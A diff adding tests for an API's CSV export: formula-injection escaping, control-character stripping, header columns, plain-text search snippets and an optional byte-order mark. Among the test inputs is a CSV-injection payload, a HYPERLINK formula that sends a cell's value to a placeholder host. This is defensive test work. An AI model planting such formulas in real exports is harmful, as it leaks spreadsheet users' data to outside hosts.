@@ -139,6 +139,152 @@ describe('collections as CSV', () => {
   });
 });
 
+describe('CSV that spreadsheets open safely', () => {
+  const HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"x")';
+
+  it('neutralises every cell that starts with a formula trigger (OWASP CSV Injection)', async () => {
+    const t = await buildTestApp();
+    const names = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1:A2)', '＝1+1', 'A=1 is fine', "'quoted already"];
+    const ids = new Map<string, number>();
+    for (const name of names) {
+      const res = await t.api.post('/participants').send(newParticipant({ name })).expect(201);
+      expect(res.body.name).toBe(name);
+      ids.set(name, res.body.id);
+    }
+    // Triggers the API's input would not keep (it trims the ends of names), as a row stored below it could hold.
+    const raw = await t.api
+      .post('/participants')
+      .send(newParticipant({ name: 'placeholder' }))
+      .expect(201);
+    t.app.database.sqlite.prepare('update participants set name = ? where id = ?').run('\t=1+1', raw.body.id);
+
+    const res = await t.api.get('/participants?limit=200&format=csv').expect(200).expect('content-type', CSV);
+    const byId = new Map(rowsOf(res.text).map((row) => [Number(row.id), row]));
+    expect(byId.get(ids.get(HYPERLINK) as number)?.name).toBe(`'${HYPERLINK}`);
+    expect(res.text).toContain(`,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""x"")",`);
+    expect(byId.get(ids.get('+1+1') as number)?.name).toBe("'+1+1");
+    expect(byId.get(ids.get('-2+3') as number)?.name).toBe("'-2+3");
+    expect(byId.get(ids.get('@SUM(A1:A2)') as number)?.name).toBe("'@SUM(A1:A2)");
+    expect(byId.get(ids.get('＝1+1') as number)?.name).toBe("'＝1+1");
+    expect(byId.get(ids.get('A=1 is fine') as number)?.name).toBe('A=1 is fine');
+    expect(byId.get(ids.get("'quoted already") as number)?.name).toBe("'quoted already");
+    expect(byId.get(raw.body.id)?.name).toBe("'\t=1+1");
+    // JSON is not a spreadsheet: the name stays as stored there.
+    expect((await t.api.get(`/participants/${ids.get(HYPERLINK)}`).expect(200)).body.name).toBe(HYPERLINK);
+
+    // Numbers stay numbers: a negative longitude is not a formula.
+    const stops = rowsOf((await t.api.get('/trips/1/stops?format=csv').expect(200)).text);
+    expect(stops.find((s) => s.city === 'Buenos Aires')?.longitude).toBe('-58.3816');
+  });
+
+  it('writes no raw CR or control character inside a value, whatever is stored', async () => {
+    const t = await buildTestApp();
+    const person = await t.api
+      .post('/participants')
+      .send(newParticipant({ name: 'placeholder' }))
+      .expect(201);
+    t.app.database.sqlite
+      .prepare('update participants set name = ?, organization = ? where id = ?')
+      .run('first line\r\nsecond\u0000 line\rthird\u0015 line\u007f', 'Tab\there\u0085', person.body.id);
+    const res = await t.api.get('/participants?limit=200&format=csv').expect(200);
+    // Outside the CRLF that ends each record: LF (quoted, inside values) and tab, and no other control character.
+    expect(res.text.replaceAll('\r\n', '')).not.toMatch(/(?![\t\n])\p{Cc}/u);
+    const row = rowsOf(res.text).find((r) => Number(r.id) === person.body.id);
+    expect(row?.name).toBe('first line\nsecond line\nthird line');
+    expect(row?.organization).toBe('Tab\there');
+  });
+
+  it('has no column that is always empty: include-only fields are columns only when included', async () => {
+    const t = await buildTestApp();
+    const plain = await t.api.get('/trips?format=csv').expect(200);
+    expect(headerOf(plain.text)).toEqual([
+      'id',
+      'title',
+      'summary',
+      'travelerId',
+      'startDate',
+      'endDate',
+      'status',
+      'topics',
+      'context',
+      'sources',
+      'createdAt',
+      'updatedAt',
+      'version',
+    ]);
+    const included = await t.api.get('/trips?format=csv&include=traveler,stops').expect(200);
+    const header = headerOf(included.text);
+    expect(header.slice(-2)).toEqual(['traveler', 'stops']);
+    const [row] = rowsOf(included.text);
+    expect(JSON.parse(row?.traveler ?? '').name).toBe('Rex Tillerson');
+    expect(JSON.parse(row?.stops ?? '')).toHaveLength(7);
+    // The same holds for stops (`meetings` comes with include=meetings).
+    expect(headerOf((await t.api.get('/trips/1/stops?format=csv').expect(200)).text)).not.toContain(
+      'meetings',
+    );
+  });
+
+  it('search results carry plain text, not <mark> HTML', async () => {
+    const t = await buildTestApp();
+    const json = await t.api.get('/search?q=macri').expect(200);
+    expect(json.body.data[0].snippet).toBe('Mauricio <mark>Macri</mark>');
+    const res = await t.api.get('/search?q=macri&format=csv').expect(200).expect('content-type', CSV);
+    const rows = rowsOf(res.text);
+    // Each CSV snippet is the JSON snippet with its marks taken out, row for row.
+    expect(rows.map((r) => r.snippet)).toEqual(
+      json.body.data.map((hit: { snippet: string }) => hit.snippet.replace(/<\/?mark>/g, '')),
+    );
+    expect(rows.map((r) => r.snippet)[1]).toBe(
+      'Meeting with President Mauricio Macri on Monday morning, 5 February, wrapping up the Argentine leg before…',
+    );
+    expect(res.text).not.toMatch(/<\/?mark>/);
+    // The snippet's HTML escapes are read back too.
+    await t.api
+      .post('/participants')
+      .send(newParticipant({ name: 'Tom & "Jerry" <b>Zylberstein</b> O\'Neill' }))
+      .expect(201);
+    const escaped = await t.api.get('/search?q=zylberstein').expect(200);
+    expect(escaped.body.data[0].snippet).toContain('&amp; &quot;Jerry&quot; &lt;b&gt;<mark>');
+    const plain = rowsOf((await t.api.get('/search?q=zylberstein&format=csv').expect(200)).text);
+    expect(plain[0]?.snippet).toBe('Tom & "Jerry" <b>Zylberstein</b> O\'Neill');
+  });
+
+  it('?bom=true starts the CSV with a UTF-8 byte-order mark, for Excel', async () => {
+    const t = await buildTestApp();
+    const bytes = async (path: string) => {
+      const res = await t.api
+        .get(path)
+        .buffer(true)
+        .parse((response, done) => {
+          const chunks: Buffer[] = [];
+          response.on('data', (chunk: Buffer) => chunks.push(chunk));
+          response.on('end', () => done(null, Buffer.concat(chunks)));
+        })
+        .expect(200);
+      return { res, body: res.body as Buffer };
+    };
+    const without = await bytes('/participants?format=csv');
+    const withBom = await bytes('/participants?format=csv&bom=true');
+    expect([...withBom.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(withBom.body.subarray(3).equals(without.body)).toBe(true);
+    expect(without.body[0]).toBe('i'.charCodeAt(0));
+    expect(withBom.res.headers['content-type']).toBe(CSV);
+    expect(withBom.res.headers['content-length']).toBe(String(without.body.length + 3));
+    expect(withBom.res.headers.etag).not.toBe(without.res.headers.etag);
+    // Accents read back as UTF-8 after the mark.
+    expect(withBom.body.subarray(3).toString('utf8')).toContain('Peña Nieto');
+    expect((await bytes('/participants?format=csv&bom=false')).body.equals(without.body)).toBe(true);
+    // JSON has no byte-order mark (RFC 8259 §8.1 forbids one).
+    const json = await bytes('/participants?bom=true');
+    expect(json.body[0]).toBe('{'.charCodeAt(0));
+    const bad = await t.api
+      .get('/participants?format=csv&bom=yes')
+      .expect(400)
+      .expect('content-type', PROBLEM);
+    expect(bad.body.errors[0].path).toBe('query.bom');
+  });
+});
+
 describe('CSV building blocks', () => {
   it('columns are the known ones, then other keys in first-seen order', () => {
     const csv = toCsv(
@@ -146,7 +292,7 @@ describe('CSV building blocks', () => {
         { b: 1, a: [{ x: 1 }] },
         { c: true, a: [] },
       ],
-      ['a'],
+      { knownColumns: ['a'] },
     );
     expect(csv).toBe('a,b,c\r\n"[{""x"":1}]",1,\r\n,,true\r\n');
     expect(toCsv([1, 2])).toBeUndefined();
